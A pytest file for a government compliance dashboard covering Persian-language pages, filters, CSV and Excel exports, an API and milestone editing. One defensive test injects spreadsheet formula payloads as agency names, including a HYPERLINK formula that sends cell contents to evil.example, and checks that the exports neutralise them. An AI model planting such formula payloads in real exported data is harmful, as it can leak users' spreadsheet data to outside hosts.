"""Compliance pages, exports and API on a crafted catalog: what an overseer and an agency admin see."""

import csv
import datetime as dt
import io

import html5lib
import pytest
from openpyxl import load_workbook

from catalog.models import AgencyKind, ServiceKind
from core.actors import SYSTEM, Role
from onboarding.compliance import services
from tests.onboarding.compliance import factories as f
from workers.tasks.compliance import today


def parse_html(body: str):
    return html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(body)


@pytest.fixture
def crafted(db_session):
    """Ministry M (services 3,3,3,1: 75%), its provincial office P in province 07 (4,4: 100%),
    organization O (no services: no data). Milestone: electronic 100% by a deadline 30 days ahead."""
    ministry = f.agency(db_session, AgencyKind.ministry, name="وزارت نمونه")
    office = f.agency(
        db_session, AgencyKind.provincial_office, parent=ministry, province="07", name="اداره کل"
    )
    organization = f.agency(db_session, AgencyKind.organization, name="سازمان بی‌خدمت")
    f.services(db_session, ministry, [3, 3, 3, 1])
    f.services(db_session, ministry, [0], kind=ServiceKind.inquiry, online=[False])
    f.services(db_session, office, [4, 4])
    program = f.program(db_session)
    electronic = f.milestone(db_session, program, "electronic", 1.0, today() + dt.timedelta(days=30))
    inquiries = f.milestone(db_session, program, "inquiries_online", 1.0, today() - dt.timedelta(days=1))
    services.take_snapshot(db_session, SYSTEM, today())
    return {
        "ministry": ministry,
        "office": office,
        "organization": organization,
        "program": program,
        "electronic": electronic,
        "inquiries": inquiries,
    }


@pytest.fixture
def overseer_client(client, make_user, sign_in):
    sign_in(client, make_user(Role.overseer))
    return client


def test_dashboard_shows_each_agency_coloured_by_status_with_values(overseer_client, crafted):
    program = crafted["program"]
    response = overseer_client.get(f"/programs/{program.id}/dashboard")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    root = parse_html(body)
    rows = {r.find("td/a").text: r for r in root.iter("tr") if r.find("td/a") is not None}
    # columns: agency, ministry, kind, province, then milestones by deadline (inquiries, electronic)
    ministry_cells = rows["وزارت نمونه"].findall("td")
    assert ministry_cells[5].get("data-status") == "at_risk"
    assert "۷۵٪" in "".join(ministry_cells[5].itertext())
    assert "(۸۳٪)" in "".join(ministry_cells[5].itertext())  # with its office: 5 of 6
    assert ministry_cells[4].get("data-status") == "missed"
    assert rows["اداره کل"].findall("td")[5].get("data-status") == "met"
    assert rows["سازمان بی‌خدمت"].findall("td")[5].get("data-status") == "no_data"
    assert 'class="cell st-at_risk"' in body
    assert "<script>" not in body and "data-chart=" in body


def test_dashboard_filters_and_sorts(overseer_client, crafted):
    program = crafted["program"]

    def agencies(query):
        root = parse_html(
            overseer_client.get(f"/programs/{program.id}/dashboard?{query}").get_data(as_text=True)
        )
        return [r.find("td/a").text for r in root.iter("tr") if r.find("td/a") is not None]

    assert agencies("province=07") == ["اداره کل"]
    assert agencies(f"ministry={crafted['ministry'].id}&sort=name") == ["اداره کل", "وزارت نمونه"]
    assert agencies("kind=organization") == ["سازمان بی‌خدمت"]
    assert agencies("status=missed") == ["وزارت نمونه"]
    by_value = agencies(f"sort=m{crafted['electronic'].id}&order=desc")
    assert by_value[:2] == ["اداره کل", "وزارت نمونه"]  # 100% before 75%; no data last
    # the ministry filter offers the ministry by name, chosen when filtered on
    root = parse_html(
        overseer_client.get(f"/programs/{program.id}/dashboard?ministry={crafted['ministry'].id}").get_data(
            as_text=True
        )
    )
    options = root.findall(".//select[@id='f-ministry']/option")
    assert [(o.get("value"), o.text, o.get("selected")) for o in options] == [
        ("", options[0].text, None),
        (str(crafted["ministry"].id), "وزارت نمونه", ""),
    ]


def test_agency_page_lists_the_services_below_target(client, make_user, sign_in, crafted):
    ministry, program = crafted["ministry"], crafted["program"]
    sign_in(client, make_user(Role.agency_admin, agency=ministry))
    response = client.get(f"/programs/{program.id}/agencies/{ministry.id}")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    parse_html(body)
    assert "بلوغ ۱ ← ۳" in body  # the one service below maturity 3
    assert "برخط، ماشین به ماشین" in body  # the offline inquiry
    assert 'data-chart-kind="trend"' in body
    other = client.get(f"/programs/{program.id}/agencies/{crafted['organization'].id}")
    assert other.status_code == 404


def test_english_agency_page(client, make_user, sign_in, crafted):
    ministry, program = crafted["ministry"], crafted["program"]
    sign_in(client, make_user(Role.agency_member, agency=ministry))
    body = client.get(f"/programs/{program.id}/agencies/{ministry.id}?lang=en").get_data(as_text=True)
    assert "maturity 1 → 3" in body and "1 more must count to reach the target." in body


def test_matrix_exports_as_csv_and_excel(overseer_client, crafted):
    program = crafted["program"]
    response = overseer_client.get(f"/programs/{program.id}/dashboard.csv?lang=en&sort=name")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    by_name = {r[1]: r for r in rows[1:]}
    first = rows[0].index("Milestone electronic: value %")
    assert by_name["وزارت نمونه"][first : first + 4] == ["75.0", "at risk", "3/4", "83.3"]
    assert by_name["سازمان بی‌خدمت"][first : first + 2] == ["", "no data"]
    excel = overseer_client.get(f"/programs/{program.id}/dashboard.xlsx?lang=fa")
    book = load_workbook(io.BytesIO(excel.data))
    sheet = book.active
    assert sheet.sheet_view.rightToLeft is True
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    ministry = next(v for v in values if v[1] == "وزارت نمونه")
    assert ministry[9] == 75 and ministry[10] == "در خطر"


def test_agency_detail_exports(client, make_user, sign_in, crafted):
    ministry, program = crafted["ministry"], crafted["program"]
    sign_in(client, make_user(Role.agency_admin, agency=ministry))
    book = load_workbook(
        io.BytesIO(client.get(f"/programs/{program.id}/agencies/{ministry.id}.xlsx?lang=en").data)
    )
    services_sheet = book["services below target"]
    rows = [[c.value for c in r] for r in services_sheet.iter_rows(min_row=2)]
    assert [r[3:] for r in rows if r[0] == "Milestone electronic"] == [["1", "3"]]
    assert client.get(f"/programs/{program.id}/agencies/{ministry.id}.pdf").status_code == 404


def test_api_matrix_and_agency_detail(client, make_user, api_headers, crafted):
    program, ministry = crafted["program"], crafted["ministry"]
    overseer = api_headers(make_user(Role.overseer))
    matrix = client.get(f"/api/v1/programs/{program.id}/matrix?province=07", headers=overseer).json
    (row,) = matrix["rows"]
    assert row["agency"]["ministry_id"] == ministry.id
    assert row["cells"][str(crafted["electronic"].id)]["status"] == "met"
    admin = api_headers(make_user(Role.agency_admin, agency=ministry))
    detail = client.get(f"/api/v1/programs/{program.id}/agencies/{ministry.id}", headers=admin).json
    electronic = next(m for m in detail["milestones"] if m["milestone"]["id"] == crafted["electronic"].id)
    assert electronic["latest"]["value"] == 0.75 and electronic["needed"] == 1
    assert [(s["have"], s["need"]) for s in electronic["shortfall"]] == [("1", "3")]
    document = client.get("/api/v1/openapi.json").json
    assert "/programs/{program_id}/matrix" in document["paths"]


def test_api_milestone_input_errors_name_the_field(client, make_user, api_headers, crafted):
    admin = api_headers(make_user(Role.platform_admin))
    program = crafted["program"]
    response = client.post(
        f"/api/v1/programs/{program.id}/milestones",
        json={"code": "x", "title_fa": "ایکس", "metric": "electronic", "deadline": "1403/13/40"},
        headers=admin,
    )
    assert response.status_code == 422
    assert "deadline" in response.json["error"]["fields"]
    created = client.post(
        f"/api/v1/programs/{program.id}/milestones",
        json={"code": "x", "title_fa": "ایکس", "metric": "smart", "target": 0.2, "deadline": "1405/01/01"},
        headers=admin,
    )
    assert created.status_code == 201 and created.json["deadline"] == "2026-03-21"


def test_platform_admin_edits_a_milestone_through_the_page(client, make_user, sign_in, db_session, crafted):
    from tests.fixtures.web import csrf_token_from

    sign_in(client, make_user(Role.platform_admin))
    milestone = crafted["electronic"]
    page = client.get(f"/milestones/{milestone.id}")
    assert page.status_code == 200
    parse_html(page.get_data(as_text=True))
    token = csrf_token_from(page.get_data(as_text=True))
    bad = client.post(f"/milestones/{milestone.id}", data={"csrf_token": token, "target": "2"})
    assert bad.status_code == 422
    saved = client.post(
        f"/milestones/{milestone.id}",
        data={"csrf_token": token, "target": "50%", "deadline": "۱۴۰۵/۰۱/۰۱", "scope_kinds": ["ministry"]},
    )
    assert saved.status_code == 302
    db_session.refresh(milestone)
    assert (milestone.target, milestone.deadline, milestone.scope_kinds) == (
        0.5,
        dt.date(2026, 3, 21),
        ["ministry"],
    )


def test_notifications_list_only_the_agencys_own(client, make_user, sign_in, db_session, crafted):
    from onboarding.compliance.reminders import create_reminders

    ministry, organization, milestone = crafted["ministry"], crafted["organization"], crafted["electronic"]
    create_reminders(
        db_session, today(), [(ministry.id, milestone.id)], {milestone.id: milestone}, email_enabled=False
    )
    sign_in(client, make_user(Role.agency_admin, agency=ministry))
    body = client.get("/notifications").get_data(as_text=True)
    assert "در خطر است" in body and "ارسال رایانامه پیکربندی نشده" in body
    other = client.application.test_client()
    from tests.fixtures.web import csrf_token_from  # noqa: F401 - sign_in uses it

    sign_in(other, make_user(Role.agency_admin, agency=organization))
    assert "در خطر است" not in other.get("/notifications").get_data(as_text=True)


def test_program_pages_are_valid_html_and_name_bad_fields(client, make_user, sign_in, crafted):
    from tests.fixtures.web import csrf_token_from

    sign_in(client, make_user(Role.platform_admin))
    program = crafted["program"]
    for path in ("/programs", f"/programs/{program.id}", f"/programs/{program.id}/dashboard?lang=en"):
        response = client.get(path)
        assert response.status_code == 200, path
        parse_html(response.get_data(as_text=True))
    token = csrf_token_from(client.get("/programs?lang=fa").get_data(as_text=True))
    bad = client.post(
        f"/programs/{program.id}/milestones",
        data={
            "csrf_token": token,
            "code": "late",
            "title_fa": "دیر",
            "metric": "electronic",
            "deadline": "دیروز",
        },
    )
    assert bad.status_code == 422
    assert "تاریخ نیست: مانند ۱۴۰۳/۰۸/۳۰ بنویسید." in bad.get_data(as_text=True)
    duplicate = client.post(
        f"/programs/{program.id}/milestones",
        data={
            "csrf_token": token,
            "code": crafted["electronic"].code,
            "title_fa": "تکراری",
            "metric": "smart",
        }
        | {"deadline": "1404/01/01"},
    )
    assert duplicate.status_code == 422 and "این کد پیش‌تر به کار رفته است." in duplicate.get_data(
        as_text=True
    )
    created = client.post(
        f"/programs/{program.id}/milestones",
        data={
            "csrf_token": token,
            "code": "cloud",
            "title_fa": "ابر",
            "metric": "joined_cloud",
            "target_kind": "boolean",
            "deadline": "1404/01/01",
        },
    )
    assert created.status_code == 302
    page = client.get(f"/programs/{program.id}").get_data(as_text=True)
    assert "ابر" in page and "۱ فروردین ۱۴۰۴" in page


def test_each_chart_is_described_by_a_table_of_its_figures(client, make_user, sign_in, crafted):
    """A chart is a picture: screen readers and text browsers get its figures as a table."""
    ministry, program = crafted["ministry"], crafted["program"]
    sign_in(client, make_user(Role.overseer))
    root = parse_html(client.get(f"/programs/{program.id}/dashboard").get_data(as_text=True))
    summary = root.find(".//canvas[@id='summary-chart']")
    table = root.find(f".//table[@id='{summary.get('aria-describedby')}']")
    rows = {r.find("th").text: [td.text for td in r.findall("td")] for r in table.find("tbody").iter("tr")}
    # columns: met, on track, at risk, missed, no data; electronic: office met, ministry at risk
    assert rows[crafted["electronic"].title_fa][:3] == ["۱", "۰", "۱"]

    root = parse_html(client.get(f"/programs/{program.id}/agencies/{ministry.id}").get_data(as_text=True))
    for canvas in root.iter("canvas"):
        table = root.find(f".//table[@id='{canvas.get('aria-describedby')}']")
        assert table is not None and table.find("caption").text
    trend = root.find(f".//table[@id='trend-{crafted['electronic'].id}']")
    values = [r.find("td").text for r in trend.find("tbody").iter("tr")]
    assert values == ["۷۵٫۰٪", "—"]  # today's value, then the deadline ahead


def test_exports_never_hold_a_formula(overseer_client, db_session, crafted):
    """Issue 15: an agency's name such as `=HYPERLINK(...)` ran as a formula in the exported sheet."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    names = [hostile, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    for name in names:
        f.agency(db_session, AgencyKind.organization, name=name)
    services.take_snapshot(db_session, SYSTEM, today())
    program = crafted["program"]
    text = overseer_client.get(f"/programs/{program.id}/dashboard.csv?lang=en").get_data().decode("utf-8-sig")
    cells = {r[1] for r in csv.reader(io.StringIO(text, newline=""))}
    assert {"'" + name for name in names} <= cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    book = load_workbook(io.BytesIO(overseer_client.get(f"/programs/{program.id}/dashboard.xlsx").data))
    written = {row[1].value: row[1].data_type for row in book.active.iter_rows(min_row=2)}
    assert {name: written.get(name) for name in names[:4]} == dict.fromkeys(names[:4], "s")  # text
    assert not [c.coordinate for row in book.active.iter_rows() for c in row if c.data_type == "f"]


def test_declared_beside_evidenced_on_the_dashboard_agency_page_csv_and_api(
    client, make_user, sign_in, api_headers, db_session
):
    """One service declared electronic that no probe found answering: 0% evidenced, 100% declared."""
    agency = f.agency(db_session, AgencyKind.organization, name="سازمان بی‌شاهد")
    f.services(db_session, agency, [3])
    program = f.program(db_session)
    milestone = f.milestone(db_session, program, "electronic", 1.0, today() + dt.timedelta(days=30))
    milestone.evidence_required, milestone.title_en = True, "electronic with evidence"
    services.take_snapshot(db_session, SYSTEM, today())
    overseer = make_user(Role.overseer)
    sign_in(client, overseer)

    dashboard = client.get(f"/programs/{program.id}/dashboard?lang=en").get_data(as_text=True)
    parse_html(dashboard)
    assert 'class="hint declared">declared: 100%' in dashboard.replace("٪", "%")
    page = client.get(f"/programs/{program.id}/agencies/{agency.id}?lang=en").get_data(as_text=True)
    parse_html(page)
    assert "Declared, without the evidence" in page
    text = client.get(f"/programs/{program.id}/dashboard.csv?lang=en").get_data().decode("utf-8-sig")
    header, line = list(csv.reader(io.StringIO(text)))[:2]
    assert dict(zip(header, line, strict=True))["electronic with evidence: declared %"] == "100.0"
    assert dict(zip(header, line, strict=True))["electronic with evidence: value %"] == "0.0"
    headers = api_headers(overseer)
    matrix = client.get(f"/api/v1/programs/{program.id}/matrix", headers=headers).json
    cell = matrix["rows"][0]["cells"][str(milestone.id)]
    assert (cell["value"], cell["declared_value"], cell["declared_numerator"]) == (0.0, 1.0, 1)
